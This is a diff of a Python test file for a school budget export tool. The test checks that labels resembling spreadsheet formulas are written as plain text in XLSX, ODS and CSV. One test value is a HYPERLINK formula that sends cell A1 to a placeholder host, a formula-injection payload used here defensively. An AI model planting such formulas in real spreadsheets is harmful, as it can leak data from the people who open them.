@@ -212,26 +212,32 @@ def test_round_trip(tmp_path, suffix):
     assert comparable(imported) == comparable(dossier.lignes)
 
 
-@pytest.mark.parametrize("suffix", [".xlsx", ".ods"])
+@pytest.mark.parametrize("suffix", [".xlsx", ".ods", ".csv"])
 def test_a_label_that_looks_like_a_formula_is_exported_as_text(tmp_path, suffix):
     """openpyxl takes any text beginning with « = » for a formula: a label « =2+3 » came out of the
-    XLSX as a formula (Excel showed 5, a hostile label could call HYPERLINK or WEBSERVICE) and came
-    back from it as an empty label, refused."""
+    XLSX as a formula (LibreOffice showed 5, a hostile label could call HYPERLINK or WEBSERVICE) and
+    came back from it as an empty label, refused. In the CSV, the spreadsheet itself decides: such a
+    text is written after an apostrophe, and the import takes it off."""
     dossier = demo_dossier()
     dossier.lignes[0].libelle = "=2+3"
     dossier.lignes[1].libelle = '=HYPERLINK("https://exemple.invalid/?"&A1;"Voir")'
     dossier.ecoles[0].nom = "=1+1"
+    dossier.lignes[2].libelle, dossier.lignes[3].libelle = "- Câble HDMI", "@Lot 3"
     calcul = compute(dossier, load_rules()).to_dict()
     path = tmp_path / f"budget{suffix}"
     write_table(path, budget_rows(dossier, calcul, RULES.categories, VOLET_LABELS), VOLET_LABELS)
+    if suffix == ".csv":  # LibreOffice 7.4 opened « =2+3 » as a formula (5); Excel also starts one at + - @
+        text = path.read_bytes().decode("utf-8-sig")
+        assert ";'=2+3;" in text and ";'=1+1;" in text and ";'- Câble HDMI;" in text and ";'@Lot 3;" in text
     if suffix == ".xlsx":
         sheet = load_workbook(path)["Équipement"]
         assert [(cell.value, cell.data_type) for cell in (sheet["E2"], sheet["E3"], sheet["B2"])] == [
             ("=2+3", "s"), ('=HYPERLINK("https://exemple.invalid/?"&A1;"Voir")', "s"), ("=1+1", "s")]
-    rows = read_table(path, "Équipement")
+    rows = read_table(path, None if suffix == ".csv" else "Équipement")
     lines = [line for _row, line in read_lines(rows, ecoles=dossier.ecoles, taux_tva=RULES.taux_tva,
                                                categories=RULES.categories).lines]
-    assert comparable(lines) == comparable(line for line in dossier.lignes if line.volet == "equipement")
+    assert comparable(lines) == comparable(line for line in dossier.lignes
+                                           if suffix == ".csv" or line.volet == "equipement")
 
 
 def test_the_xlsx_export_has_real_numbers_formats_and_frozen_headers(tmp_path):
